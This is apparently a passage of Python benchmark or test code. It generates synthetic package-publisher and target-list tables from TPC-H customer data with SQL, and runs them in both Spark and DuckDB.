INPUTS["publishers"] = """SELECT concat('pkg', CAST(c_custkey AS STRING)) AS package_id, CASE CAST(c_custkey % 5 AS INT) WHEN 0 THEN 'Admin' WHEN 1 THEN NULL ELSE concat(' Ann  ', CAST(CAST(FLOOR(c_custkey / 4) AS BIGINT) AS STRING)) END AS author, CASE CAST(c_custkey % 7 AS INT) WHEN 0 THEN NULL WHEN 1 THEN concat('mailto:T', CAST((c_custkey * 31) % 997 AS STRING), '@gmail.example') ELSE concat('u', CAST(CAST(FLOOR(c_custkey / 3) AS BIGINT) AS STRING), '@d', CAST(CAST(FLOOR(c_custkey / 9) AS BIGINT) AS STRING), '.example') END AS address,
 CASE WHEN c_custkey % 11 = 0 THEN concat('D', CAST(CAST(FLOOR(c_custkey / 20) AS BIGINT) AS STRING), '.Example') END AS domain, CASE CAST(c_custkey % 13 AS INT) WHEN 0 THEN 'FLAGGED' WHEN 1 THEN 'SUSPICIOUS' WHEN 2 THEN 'unknown' ELSE 'CLEAN' END AS verdict FROM {customer}"""
INPUTS["target_lists"] = """SELECT c_custkey AS k, concat('a', CAST(c_custkey AS STRING), '@x.example, b.example;c.example', chr(10), '# comment, z', chr(10), '  d', CAST(c_custkey AS STRING), '.example  ', chr(10), chr(10), 'e .example,,#f') AS value FROM {customer}"""

#: What an input needs on top that the two engines write differently: column, Spark's and DuckDB's expression.
SIZED = {"files": ("size", "CAST(octet_length(content) AS BIGINT)", "CAST(strlen(content) AS BIGINT)")}


def frame(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A derived input as a DataFrame over the tables in sf_dir."""
    text = INPUTS[name]
    tables = {t: spark.read.parquet(f"{sf_dir}/{t}.parquet") for t in set(re.findall(r"\{(\w+)\}", text))}
    out = spark.sql(text, **tables)
    if name in SIZED:
        column, expression, _ = SIZED[name]
        out = out.withColumn(column, F.expr(expression))
    return out


def duck(*names: str) -> str:
    """The inputs as `WITH name AS (...), ...`, for DuckDB."""
    parts = []
    for name in names:
        text = re.sub(r"\{(\w+)\}", r"\1", INPUTS[name]).replace("{{", "{").replace("}}", "}")
        if name in SIZED:
            text = f"SELECT *, {SIZED[name][2]} AS {SIZED[name][0]} FROM ({text}) sized"
        parts.append(f"{name} AS ({text})")
    return "WITH " + ", ".join(parts)
